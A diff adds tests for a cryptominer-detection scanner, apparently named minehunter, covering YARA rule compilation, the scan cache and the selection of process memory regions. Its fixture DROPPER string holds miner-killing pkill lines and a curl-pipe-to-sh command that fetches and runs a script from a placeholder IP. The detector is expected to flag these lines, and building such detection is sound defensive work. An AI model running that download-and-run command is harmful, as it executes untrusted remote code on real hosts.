@@ -1,0 +1,141 @@
+// Tests for the content scan as a whole (walker, worker threads, cache): a warm rescan of an
+// unchanged tree answers every file from the cache with the same matches, a changed file or a
+// changed rule set is scanned again, a broken user rule is named with file and line while the
+// other rules still run, and memory regions are chosen and ordered as documented.
+import { appendFile, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import {
+  compileAllRules,
+  memoryRegions,
+  runsRuleEngine,
+  scanContent,
+  type ContentScanOptions,
+} from './content-scan.js';
+
+let dir: string;
+let tree: string;
+const DROPPER =
+  'pkill -9 xmrig\npkill -9 kdevtmpfsi\nkillall -9 kinsing\ncurl -fsSL http://192.0.2.10/x.sh | sh\n';
+
+beforeAll(async () => {
+  dir = await mkdtemp(path.join(os.tmpdir(), 'minehunter-content-scan-'));
+  tree = path.join(dir, 'tree');
+  await mkdir(path.join(tree, 'a', 'b'), { recursive: true });
+  await writeFile(path.join(tree, 'a', 'drop.sh'), DROPPER);
+  for (let i = 0; i < 50; i++) await writeFile(path.join(tree, 'a', 'b', `f${i}.txt`), `plain text ${i}\n`);
+  await writeFile(path.join(tree, 'run.sh'), '#!/bin/sh\necho hi\n', { mode: 0o755 });
+});
+
+afterAll(async () => {
+  await rm(dir, { recursive: true, force: true });
+});
+
+function options(cachePath?: string): ContentScanOptions {
+  return {
+    scope: 'paths',
+    roots: [tree],
+    oneFileSystem: true,
+    maxFileSize: 1 << 20,
+    exclude: [],
+    cachePath,
+    workers: 2,
+  };
+}
+
+const matched = (files: { path: string; matches: { rule: string }[] }[]) =>
+  files
+    .filter((f) => f.matches.length > 0)
+    .map(
+      (f) =>
+        `${f.path}: ${f.matches
+          .map((m) => m.rule)
+          .sort()
+          .join(',')}`,
+    );
+
+describe('content scan', () => {
+  it('answers a warm rescan from the cache and rescans what changed', async () => {
+    const cache = path.join(dir, 'cache.sqlite');
+    const cold = (await scanContent(options(cache))).content;
+    expect(cold.stats).toMatchObject({ files: 52, cached: 0 });
+    expect(matched(cold.files)).toEqual([`${tree}/a/drop.sh: MH_Dropper_Download_And_Run`]);
+    // The executable script is listed with its hash for the hash IOCs, though nothing matched.
+    expect(cold.files.find((f) => f.path === `${tree}/run.sh`)).toMatchObject({
+      executable: true,
+      sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
+    });
+
+    const warm = (await scanContent(options(cache))).content;
+    expect(warm.stats).toMatchObject({ files: 52, cached: 52 });
+    expect(warm.files).toEqual(cold.files);
+
+    await appendFile(path.join(tree, 'a', 'b', 'f3.txt'), 'stratum+tcp://pool.example.invalid:3333\n');
+    const changed = (await scanContent(options(cache))).content;
+    expect(changed.stats.cached).toBe(51);
+    expect(matched(changed.files)).toContain(`${tree}/a/b/f3.txt: MH_Config_Stratum_Pool_URL`);
+  });
+
+  it('a broken user rule is named with file and line; the good user rule and ours still run', async () => {
+    const rules = path.join(dir, 'user-rules');
+    await mkdir(rules, { recursive: true });
+    await writeFile(
+      path.join(rules, 'broken.yar'),
+      'rule Broken {\n  strings:\n    $a = "abcdef"\n  condition:\n    $a and $b\n}\n',
+    );
+    await writeFile(
+      path.join(rules, 'mine.yar'),
+      'rule Local_Hello { strings: $a = "echo hi" condition: $a }\n',
+    );
+    const compiled = compileAllRules([rules]);
+    expect(compiled.problems.map((p) => `${p.severity} ${path.basename(p.file)}:${p.line}`)).toEqual([
+      'error broken.yar:5',
+    ]);
+    expect(compiled.problems[0]?.message.en).toMatch(
+      /broken\.yar:5:\d+: rule file not loaded: .*The other rule files still run\./,
+    );
+    const { content } = await scanContent({ ...options(), userRuleDirs: [rules] }, compiled);
+    // f3.txt holds a pool URL since the first test changed it.
+    expect(matched(content.files)).toEqual([
+      `${tree}/a/b/f3.txt: MH_Config_Stratum_Pool_URL`,
+      `${tree}/a/drop.sh: MH_Dropper_Download_And_Run`,
+      `${tree}/run.sh: Local_Hello`,
+    ]);
+    expect(content.files.find((f) => f.path.endsWith('run.sh'))?.matches[0]?.namespace).toBe('user.mine');
+  });
+});
+
+describe('memory regions', () => {
+  const maps = [
+    '55d0c0a00000-55d0c0a21000 r--p 00000000 08:01 131 /usr/bin/x',
+    '55d0c0a21000-55d0c0a60000 r-xp 00021000 08:01 131 /usr/bin/x',
+    '55d0c0c60000-55d0c0c62000 rw-p 00060000 08:01 131 /usr/bin/x',
+    '55d0c1000000-55d0c1021000 rw-p 00000000 00:00 0 [heap]',
+    '7f0000000000-7f0000100000 rw-p 00000000 00:00 0 ',
+    '7f0000200000-7f0000201000 r-xp 00000000 00:01 77 /memfd:payload (deleted)',
+    '7f0000300000-7f0000301000 ---p 00000000 00:00 0 ',
+    '7ffc00000000-7ffc00021000 rw-p 00000000 00:00 0 [stack]',
+    '7ffc00100000-7ffc00102000 r--p 00000000 00:00 0 [vvar]',
+  ].join('\n');
+
+  it('keeps writable and deleted/memfd regions, program data first, then heap, stack, anonymous', () => {
+    expect(memoryRegions(maps).map((r) => r.start.toString(16))).toEqual([
+      '55d0c0c60000',
+      '7f0000200000',
+      '55d0c1000000',
+      '7ffc00000000',
+      '7f0000000000',
+    ]);
+  });
+
+  it('recognises processes that load a YARA engine', () => {
+    expect(
+      runsRuleEngine(
+        '7f0 r-xp 0 0 1 /app/node_modules/@litko/yara-x-linux-x64-gnu/yara-x.linux-x64-gnu.node',
+      ),
+    ).toBe(true);
+    expect(runsRuleEngine('7f0 r-xp 0 0 1 /usr/lib/x86_64-linux-gnu/libyara.so.9')).toBe(true);
+    expect(runsRuleEngine(maps)).toBe(false);
+  });
+});
